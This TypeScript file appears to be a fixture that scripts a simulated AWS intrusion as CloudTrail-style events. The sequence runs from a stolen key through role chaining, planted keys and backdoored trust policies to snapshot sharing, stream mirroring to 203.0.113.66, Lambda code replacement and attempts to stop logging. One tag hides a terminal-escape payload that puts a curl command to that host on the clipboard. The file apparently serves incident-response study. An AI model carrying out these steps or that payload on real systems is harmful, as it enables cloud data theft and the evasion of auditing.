import type { Actor } from './actor.ts';
import { keys } from './actors.ts';
import { probing } from './denied.ts';
import { accounts, estates } from './estate.ts';
import type { Json, JsonObject } from './json.ts';
import type { Happening } from './record.ts';
import { assumeRole, thief } from './thief.ts';

const { platform, media, security, foreign } = accounts;
const mediaKey = `arn:aws:kms:us-east-1:${media}:key/${estates[media]!.keys[1]}`;
const [ordersVolume] = estates[media]!.volumes as [string];
const sharedSnapshot = 'snap-0c0ffee15dea0be5e';
const dockCamera = `arn:aws:kinesisvideo:us-west-2:${media}:stream/loading-dock/1691234567890`;
const studioCamera = `arn:aws:kinesisvideo:us-west-2:${media}:stream/studio-cam-1/1691234560001`;
const copyStream = `arn:aws:kinesis:us-east-1:${media}:stream/customers-copy`;
const thumbnailerArn = `arn:aws:lambda:us-east-1:${media}:function:thumbnailer`;

type Details = Partial<Pick<Happening, 'request' | 'response' | 'error' | 'more' | 'account' | 'command'>>;

function step(clock: string, actor: Actor, region: string, call: string, details: Details = {}): Happening {
  return { time: `2026-03-04T${clock}Z`, actor, call, region, label: `${clock} ${call}`, ...details };
}

const signIn = (clock: string, identity: JsonObject, outcome: string, errorMessage?: string): Happening =>
  step(clock, { ...thief.console, identity, console: false }, 'us-east-1', 'signin:ConsoleLogin', {
    response: { ConsoleLogin: outcome },
    ...(errorMessage ? { error: ['', errorMessage] } : {}),
    more: {
      eventVersion: '1.08',
      additionalEventData: {
        LoginTo: 'https://console.aws.amazon.com/console/home',
        MobileVersion: 'No',
        MFAUsed: 'No',
      },
      eventType: 'AwsConsoleSignIn',
    },
  });

const signedOutAs = (userName: string): JsonObject => ({
  type: 'IAMUser',
  principalId: '',
  accountId: media,
  accessKeyId: '',
  userName,
});

const policy = (...statements: JsonObject[]) =>
  JSON.stringify({ Version: '2012-10-17', Statement: statements });
const foreignRoot = { AWS: `arn:aws:iam::${foreign}:root` };
const name = (userName: string) => ({ userName });
const one = (key: string, value: Json) => ({ [key]: value });

/** Look around with the stolen key. */
const arrival: readonly Happening[] = [
  step('08:57:12', thief.alice, 'us-east-1', 'sts:GetCallerIdentity'),
  step('08:57:31', thief.alice, 'us-east-1', 'iam:ListAttachedUserPolicies', { request: name('alice') }),
  step('08:57:39', thief.alice, 'us-east-1', 'iam:ListGroupsForUser', { request: name('alice') }),
  step('08:57:52', thief.alice, 'us-east-1', 'iam:GetPolicyVersion', {
    request: { policyArn: `arn:aws:iam::${platform}:policy/Developers`, versionId: 'v7' },
  }),
  step('08:58:20', thief.alice, 'us-east-1', 's3:ListBuckets', { request: one('Host', 's3.amazonaws.com') }),
  ...probing,
  step('09:00:40', thief.alice, 'us-east-1', 'kinesis:ListStreams', { request: one('limit', 100) }),
  step('09:02:11', thief.alice, 'us-east-1', 'kinesis:DescribeStreamSummary', {
    request: { streamName: 'orders' },
  }),
];

/** A role, then a role from that role in the other account. */
const climbing: readonly Happening[] = [
  ...assumeRole({
    time: '2026-03-04T09:06:01Z',
    actor: thief.alice,
    account: platform,
    role: 'Deploy',
    session: 'alice',
    key: keys.deploy,
    expires: 'Mar 4, 2026, 10:06:01 AM',
    more: { durationSeconds: 3600 },
  }),
  step('09:06:22', thief.deploy, 'us-east-1', 'sts:GetCallerIdentity'),
  step('09:07:03', thief.deploy, 'us-east-1', 'iam:ListRoles', { request: one('maxItems', 1000) }),
  step('09:08:19', thief.deploy, 'us-east-1', 'iam:GetRolePolicy', {
    request: { roleName: 'Deploy', policyName: 'cross-account' },
  }),
  step('09:09:47', thief.deploy, 'us-west-2', 'medialive:ListInputs', { request: one('maxResults', '20') }),
  step('09:10:30', thief.deploy, 'us-west-2', 'kinesisvideo:ListStreams', {
    request: one('maxResults', 1000),
  }),
  step('09:14:02', thief.alice, 'us-east-1', 'kinesis:CreateStream', {
    request: { streamName: 'orders-copy', shardCount: 2, streamModeDetails: { streamMode: 'PROVISIONED' } },
  }),
  step('09:14:09', thief.deploy, 'us-west-2', 'kinesisvideo:CreateSignalingChannel', {
    request: {
      channelName: 'lobby-cam',
      channelType: 'SINGLE_MASTER',
      tags: [
        { key: 'team', value: 'media' },
        { key: 'note', value: '\u202egnp.ecaf\u202c \u001b]52;c;Y3VybCBodHRwOi8vMjAzLjAuMTEzLjY2Lw==\u0007' },
      ],
    },
    error: [
      'AccessDeniedException',
      `User: arn:aws:sts::${platform}:assumed-role/Deploy/alice is not authorized to perform: kinesisvideo:CreateSignalingChannel on resource: arn:aws:kinesisvideo:us-west-2:${platform}:channel/lobby-cam/* because no identity-based policy allows the kinesisvideo:CreateSignalingChannel action`,
    ],
  }),
  step('09:14:31', thief.deploy, 'us-west-2', 'medialive:CreateInput', {
    request: {
      name: 'live_studio_feed',
      type: 'RTMP_PULL',
      requestId: '7d1fb2c4',
      sources: [
        {
          url: 'rtmp://203.0.113.66:1935/studio',
          username: 'feed',
          passwordParam: 'HIDDEN_DUE_TO_SECURITY_REASONS',
        },
      ],
    },
    response: {
      input: {
        arn: `arn:aws:medialive:us-west-2:${platform}:input:4419071`,
        id: '4419071',
        name: 'live_studio_feed',
        state: 'CREATING',
        type: 'RTMP_PULL',
        inputClass: 'SINGLE_PIPELINE',
      },
    },
  }),
  ...assumeRole({
    time: '2026-03-04T09:14:45Z',
    actor: thief.deploy,
    account: media,
    role: 'Prod',
    session: 'alice',
    key: keys.prod,
    expires: 'Mar 4, 2026, 10:14:45 AM',
  }),
];

/** Copies are set up, and doors are wedged open. */
const settlingIn: readonly Happening[] = [
  step('09:15:00', thief.prod, 'us-east-1', 'kinesis:CreateStream', {
    request: {
      streamName: 'customers-copy',
      shardCount: 4,
      streamModeDetails: { streamMode: 'PROVISIONED' },
    },
  }),
  step('09:16:24', thief.prod, 'us-east-1', 'kinesis:PutResourcePolicy', {
    request: {
      resourceARN: copyStream,
      policy: policy({
        Sid: 'readers',
        Effect: 'Allow',
        Principal: foreignRoot,
        Action: ['kinesis:DescribeStreamSummary', 'kinesis:GetRecords', 'kinesis:GetShardIterator'],
        Resource: copyStream,
      }),
    },
  }),
  step('09:18:40', thief.prod, 'us-east-1', 'kinesisanalytics:DescribeApplication', {
    request: { applicationName: 'customers-enrich', includeAdditionalDetails: true },
  }),
  step('09:21:37', thief.prod, 'us-east-1', 'kinesisanalytics:UpdateApplication', {
    request: {
      applicationName: 'customers-enrich',
      currentApplicationVersionId: 12,
      applicationConfigurationUpdate: {
        environmentPropertyUpdates: {
          propertyGroups: [
            {
              propertyGroupId: 'Sink',
              propertyMap: {
                'stream.arn': copyStream,
                'mirror.arn': `arn:aws:kinesis:us-east-1:${foreign}:stream/mirror`,
              },
            },
          ],
        },
      },
    },
    response: {
      applicationDetail: {
        applicationARN: `arn:aws:kinesisanalytics:us-east-1:${media}:application/customers-enrich`,
        applicationName: 'customers-enrich',
        applicationStatus: 'UPDATING',
        applicationVersionId: 13,
        runtimeEnvironment: 'FLINK-1_20',
      },
    },
  }),
  step('09:27:15', thief.prod, 'us-east-1', 'iam:ListUsers', { request: one('maxItems', 100) }),
  step('09:27:58', thief.prod, 'us-east-1', 'iam:ListAccessKeys', { request: name('media-ci') }),
  step('09:28:33', thief.prod, 'us-east-1', 'iam:CreateAccessKey', {
    request: name('media-ci'),
    response: {
      accessKey: {
        accessKeyId: keys.mediaCiPlanted,
        status: 'Active',
        userName: 'media-ci',
        createDate: 'Mar 4, 2026, 9:28:33 AM',
      },
    },
  }),
  step('09:31:06', thief.prod, 'us-east-1', 'iam:PutUserPolicy', {
    request: {
      userName: 'media-ci',
      policyName: 'ci-tmp',
      policyDocument: policy({ Effect: 'Allow', Action: '*', Resource: '*' }),
    },
  }),
  step('09:33:50', thief.prod, 'us-east-1', 'iam:CreateUser', {
    request: name('svc-backup'),
    error: [
      'AccessDenied',
      `User: arn:aws:sts::${media}:assumed-role/Prod/alice is not authorized to perform: iam:CreateUser on resource: arn:aws:iam::${media}:user/svc-backup with an explicit deny in a service control policy: arn:aws:organizations::${security}:policy/o-exampleorg1/service_control_policy/p-nousers9`,
    ],
  }),
  step('09:36:12', thief.prod, 'us-east-1', 'iam:UpdateAssumeRolePolicy', {
    request: {
      roleName: 'MediaArchive',
      policyDocument: policy(
        { Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${media}:role/Prod` }, Action: 'sts:AssumeRole' },
        { Effect: 'Allow', Principal: foreignRoot, Action: 'sts:AssumeRole' },
      ),
    },
  }),
  step('09:44:28', thief.prod, 'us-east-1', 'ec2:DescribeVolumes', {
    request: {
      volumeSet: {},
      filterSet: { items: [{ name: 'tag:Name', valueSet: { items: [{ value: 'orders-db*' }] } }] },
    },
  }),
  step('09:52:17', thief.prod, 'us-east-1', 'ec2:CreateSnapshot', {
    request: { volumeId: ordersVolume, description: 'nightly' },
    response: {
      snapshotId: sharedSnapshot,
      volumeId: ordersVolume,
      volumeSize: 512,
      status: 'pending',
      ownerId: media,
      encrypted: false,
      startTime: 1772617937000,
    },
  }),
  step('10:02:44', thief.prod, 'us-east-1', 'ec2:ModifySnapshotAttribute', {
    request: {
      snapshotId: sharedSnapshot,
      attributeType: 'CREATE_VOLUME_PERMISSION',
      createVolumePermission: { add: { items: [one('userId', foreign)] } },
    },
    response: { requestId: '1f6f4c8e-2f51-4f5e-bb0f-0d1a7b2c3d4e', _return: true },
  }),
  step('10:05:20', thief.prod, 'us-east-1', 'kms:PutKeyPolicy', {
    request: {
      keyId: mediaKey,
      policyName: 'default',
      policy: policy({ Effect: 'Allow', Principal: foreignRoot, Action: 'kms:Decrypt', Resource: '*' }),
      bypassPolicyLockoutSafetyCheck: false,
    },
    error: [
      'AccessDenied',
      `User: arn:aws:sts::${media}:assumed-role/Prod/alice is not authorized to perform: kms:PutKeyPolicy on resource: ${mediaKey} because no resource-based policy allows the kms:PutKeyPolicy action`,
    ],
  }),
  step('10:11:31', thief.prod, 'us-east-1', 'iam:CreateLoginProfile', {
    request: { userName: 'media-ci', passwordResetRequired: false },
    response: {
      loginProfile: {
        userName: 'media-ci',
        passwordResetRequired: false,
        createDate: 'Mar 4, 2026, 10:11:31 AM',
      },
    },
  }),
];

/** The console, from another address, without MFA. */
const atTheConsole: readonly Happening[] = [
  signIn(
    '10:18:02',
    signedOutAs('HIDDEN_DUE_TO_SECURITY_REASONS'),
    'Failure',
    'No username found in supplied account',
  ),
  signIn(
    '10:18:40',
    signedOutAs('HIDDEN_DUE_TO_SECURITY_REASONS'),
    'Failure',
    'No username found in supplied account',
  ),
  signIn('10:21:15', signedOutAs('media-ci'), 'Failure', 'Failed authentication'),
  signIn('10:22:51', signedOutAs('studio-desk'), 'Failure', 'Failed authentication'),
  signIn(
    '10:24:19',
    { ...thief.console.identity, sessionContext: undefined } as unknown as JsonObject,
    'Success',
  ),
  step('10:25:33', thief.console, 'us-west-2', 'medialive:ListChannels', {
    request: one('maxResults', '20'),
  }),
  step('10:26:10', thief.console, 'us-west-2', 'medialive:DescribeChannel', {
    request: one('channelId', '2750932'),
  }),
  step('10:29:58', thief.console, 'us-west-2', 'medialive:UpdateChannel', {
    request: {
      channelId: '2750932',
      destinations: [
        {
          id: 'dest-1',
          settings: [
            { url: 's3ssl://live-recordings/studio/cam-1', passwordParam: '' },
            {
              url: 'rtmp://203.0.113.66:1935/mirror',
              streamName: 'studio',
              username: 'feed',
              passwordParam: 'HIDDEN_DUE_TO_SECURITY_REASONS',
            },
          ],
        },
      ],
    },
    response: {
      channel: {
        arn: `arn:aws:medialive:us-west-2:${media}:channel:2750932`,
        id: '2750932',
        name: 'studio-live',
        state: 'UPDATING',
        channelClass: 'STANDARD',
      },
    },
  }),
  step('10:34:07', thief.console, 'us-west-2', 'kinesisvideo:ListSignalingChannels', { request: {} }),
  step('10:35:42', thief.console, 'us-west-2', 'kinesisvideo:CreateSignalingChannel', {
    request: {
      channelName: 'lobby-cam-2',
      channelType: 'SINGLE_MASTER',
      singleMasterConfiguration: { messageTtlSeconds: 120 },
    },
    response: { channelARN: `arn:aws:kinesisvideo:us-west-2:${media}:channel/lobby-cam-2/1772620542000` },
  }),
  step('10:41:26', thief.console, 'us-east-1', 'guardduty:UpdateDetector', {
    request: { detectorId: '12abc34d567e8fa901bc2d34e56789f0', enable: false },
    error: [
      'AccessDenied',
      `User: arn:aws:iam::${media}:user/media-ci is not authorized to perform: guardduty:UpdateDetector on resource: arn:aws:guardduty:us-east-1:${media}:detector/12abc34d567e8fa901bc2d34e56789f0 with an explicit deny in a service control policy: arn:aws:organizations::${security}:policy/o-exampleorg1/service_control_policy/p-keepout1`,
    ],
  }),
  step('10:51:13', thief.console, 'us-east-1', 'config:StopConfigurationRecorder', {
    request: one('configurationRecorderName', 'default'),
  }),
];

/** New sessions of the same chain, one role further, and the lights go out. */
const goingDark: readonly Happening[] = [
  ...assumeRole({
    time: '2026-03-04T10:57:08Z',
    actor: thief.alice,
    account: platform,
    role: 'Deploy',
    session: 'alice',
    key: keys.deployAgain,
    expires: 'Mar 4, 2026, 11:57:08 AM',
  }),
  ...assumeRole({
    time: '2026-03-04T10:58:21Z',
    actor: thief.deployAgain,
    account: media,
    role: 'Prod',
    session: 'alice',
    key: keys.prodAgain,
    expires: 'Mar 4, 2026, 11:58:21 AM',
  }),
  ...assumeRole({
    time: '2026-03-04T10:59:36Z',
    actor: thief.prodAgain,
    account: media,
    role: 'MediaArchive',
    session: 'nightly-sync',
    key: keys.archive,
    expires: 'Mar 4, 2026, 11:59:36 AM',
  }),
  step('11:00:12', thief.deployAgain, 'us-east-1', 'cloudtrail:DescribeTrails', {
    request: { includeShadowTrails: true, trailNameList: [] },
  }),
  step('11:00:44', thief.deployAgain, 'us-east-1', 'cloudtrail:StopLogging', {
    request: one('name', 'org-audit'),
    error: [
      'TrailNotFoundException',
      `Unknown trail: arn:aws:cloudtrail:us-east-1:${platform}:trail/org-audit for the user: ${platform}`,
    ],
  }),
  step('11:01:20', thief.deployAgain, 'us-east-1', 'cloudtrail:DeleteTrail', {
    request: one('name', 'main-trail'),
    error: [
      'AccessDenied',
      `User: arn:aws:sts::${platform}:assumed-role/Deploy/alice is not authorized to perform: cloudtrail:DeleteTrail on resource: arn:aws:cloudtrail:us-east-1:${platform}:trail/main-trail because no session policy allows the cloudtrail:DeleteTrail action`,
    ],
  }),
  step('11:02:17', thief.deployAgain, 'us-east-1', 'cloudtrail:StopLogging', {
    request: one('name', `arn:aws:cloudtrail:us-east-1:${platform}:trail/main-trail`),
  }),
];

/** What is done with the planted key, when the sessions have run out. */
const secondKey: readonly Happening[] = [
  step('12:03:37', thief.planted, 'us-east-1', 'sts:GetCallerIdentity'),
  step('12:05:49', thief.planted, 'us-east-1', 'lambda:GetFunction20150331v2', {
    request: one('functionName', 'thumbnailer'),
  }),
  step('12:08:14', thief.planted, 'us-east-1', 'lambda:UpdateFunctionCode20150331v2', {
    request: {
      functionName: 'thumbnailer',
      s3Bucket: `cdn-assets-${foreign}`,
      s3Key: 'thumbnailer.zip',
      publish: true,
      dryRun: false,
    },
    response: {
      functionName: 'thumbnailer',
      functionArn: `${thumbnailerArn}:31`,
      runtime: 'nodejs22.x',
      handler: 'index.handler',
      role: `arn:aws:iam::${media}:role/Thumbnailer`,
      codeSize: 81_442,
      codeSha256: 'mYq0EXAMPLEn3vTtq1m2oZ4u7cRkzF2bq8yJw5tLh0s=',
      version: '31',
      lastUpdateStatus: 'InProgress',
      environment: { variables: 'HIDDEN_DUE_TO_SECURITY_REASONS' },
    },
  }),
  step('12:10:02', thief.planted, 'us-east-1', 'lambda:AddPermission20150331v2', {
    request: {
      functionName: 'thumbnailer',
      statementId: 'cdn',
      action: 'lambda:InvokeFunction',
      principal: foreign,
    },
    response: {
      statement: policy({
        Sid: 'cdn',
        Effect: 'Allow',
        Principal: foreignRoot,
        Action: 'lambda:InvokeFunction',
        Resource: thumbnailerArn,
      }),
    },
  }),
  step('12:22:30', thief.planted, 'us-east-1', 'secretsmanager:GetSecretValue', {
    request: one('secretId', 'media/drm-signing-key'),
  }),
  step('12:24:11', thief.planted, 'us-east-1', 'dynamodb:ListTables', {
    error: [
      'AccessDenied',
      `User: arn:aws:iam::${media}:user/media-ci is not authorized to perform: dynamodb:ListTables on resource: arn:aws:dynamodb:us-east-1:${media}:table/* because no VPC endpoint policy allows the dynamodb:ListTables action`,
    ],
    more: { vpcEndpointId: 'vpce-0f1e2d3c4b5a69788', vpcEndpointAccountId: media },
  }),
];

/** Tracks are covered; some cannot be. */
const leaving: readonly Happening[] = [
  step('12:48:05', thief.planted, 'us-west-2', 'kinesisvideo:DeleteSignalingChannel', {
    request: { channelARN: `arn:aws:kinesisvideo:us-west-2:${media}:channel/lobby-cam-2/1772620542000` },
  }),
  step('12:55:18', thief.planted, 'us-west-2', 'medialive:UpdateChannel', {
    request: {
      channelId: '2750932',
      destinations: [
        { id: 'dest-1', settings: [{ url: 's3ssl://live-recordings/studio/cam-1', passwordParam: '' }] },
      ],
    },
    response: {
      channel: {
        arn: `arn:aws:medialive:us-west-2:${media}:channel:2750932`,
        id: '2750932',
        name: 'studio-live',
        state: 'UPDATING',
        channelClass: 'STANDARD',
      },
    },
  }),
  step('13:05:50', thief.alice, 'us-east-1', 'kinesis:DeleteStream', {
    request: { streamName: 'orders-copy', enforceConsumerDeletion: true },
  }),
  step('13:09:22', thief.planted, 'us-east-1', 'iam:DeleteLoginProfile', { request: name('media-ci') }),
  step('13:12:40', thief.planted, 'us-east-1', 'cloudtrail:LookupEvents', {
    request: { maxResults: 50, lookupAttributes: [{ attributeKey: 'Username', attributeValue: 'media-ci' }] },
  }),
  step('13:17:09', thief.planted, 'us-east-1', 's3:DeleteObject', {
    account: security,
    request: {
      bucketName: 'log-archive-777788889999',
      Host: 'log-archive-777788889999.s3.amazonaws.com',
      key: `AWSLogs/${media}/CloudTrail/us-east-1/2026/03/04/`,
    },
    error: [
      'AccessDenied',
      `User: arn:aws:iam::${media}:user/media-ci is not authorized to perform: s3:DeleteObject on resource: "arn:aws:s3:::log-archive-777788889999" with an explicit deny in a resource control policy: arn:aws:organizations::${security}:policy/o-exampleorg1/resource_control_policy/p-keeplogs2`,
    ],
  }),
  step('13:21:44', thief.planted, 'us-east-1', 'iam:DeleteUserPolicy', {
    request: { userName: 'media-ci', policyName: 'ci-tmp' },
  }),
];

/** The theft, step by step, without the long lists of what was copied. */
export const incident: readonly Happening[] = [
  ...arrival,
  ...climbing,
  ...settlingIn,
  ...atTheConsole,
  ...goingDark,
  ...secondKey,
  ...leaving,
];

/** Names that the copying shares with the story. */
export const loot = { copyStream, dockCamera, studioCamera, mediaKey } as const;
